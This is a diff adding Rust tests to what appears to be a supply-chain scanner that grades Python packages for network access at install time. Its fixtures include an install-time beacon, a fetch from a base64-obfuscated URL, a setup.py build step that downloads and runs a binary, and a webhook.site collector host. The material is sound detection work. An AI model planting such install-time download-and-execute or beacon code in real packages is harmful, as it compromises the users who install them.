@@ -109,3 +109,35 @@ fn a_collector_host_in_a_blocklist_of_a_file_that_sends_nothing_is_medium() {
     let r = module("URL = 'https://webhook.site/6f1c2a'\n");
     assert_eq!(max(&r, "access/exfil-endpoint"), Some(High));
 }
+
+// ---------------------------------------------------------------- access/network-on-install: what the answer is used for
+
+#[test]
+fn an_import_time_fetch_whose_answer_is_returned_or_parsed_is_medium_and_a_thrown_away_one_stays_high() {
+    let r = module("import requests\ndef latest():\n    return requests.get('https://api.example.org/acme/latest').json()\nprint(latest())\n");
+    assert_eq!(max(&r, "access/network-on-install"), Some(Medium), "{:?}", r.findings);
+    let r = module("import json, urllib.request\nINDEX = json.loads(urllib.request.urlopen('https://data.example.org/index.json').read())\n");
+    assert_eq!(max(&r, "access/network-on-install"), Some(Medium), "{:?}", r.findings);
+    // A beacon: the answer is thrown away.
+    let r = module("import requests\nrequests.get('https://api.example.org/acme/installed')\n");
+    assert_eq!(max(&r, "access/network-on-install"), Some(High));
+}
+
+#[test]
+fn a_fetch_of_an_address_the_file_does_not_hold_is_medium_unless_the_address_is_decoded() {
+    let r = module("import os, requests\nSETTINGS = requests.get(os.environ.get('ACME_SETTINGS_URL', '')).json()\n");
+    assert_eq!(max(&r, "access/network-on-install"), Some(Medium), "{:?}", r.findings);
+    let r = module("import base64, requests\nSETTINGS = requests.get(base64.b64decode('aHR0cHM6Ly9maWxlcy5leGFtcGxlLm5ldC94').decode()).text\n");
+    assert_eq!(max(&r, "access/network-on-install"), Some(High));
+}
+
+#[test]
+fn a_build_that_downloads_data_and_runs_nothing_is_medium_and_one_that_runs_a_process_stays_high() {
+    let r = setup_py(&build_override("import urllib.request", "        with urllib.request.urlopen('https://data.example.org/tables.json') as resp:\n            open('acme/tables.json', 'wb').write(resp.read())"));
+    assert_eq!(max(&r, "access/network-on-install"), Some(Medium), "{:?}", r.findings);
+    let r = setup_py(&build_override(
+        "import urllib.request",
+        "        with urllib.request.urlopen('https://data.example.org/tool') as resp:\n            open('tool', 'wb').write(resp.read())\n        subprocess.call(['./tool'])",
+    ));
+    assert_eq!(max(&r, "access/network-on-install"), Some(High));
+}
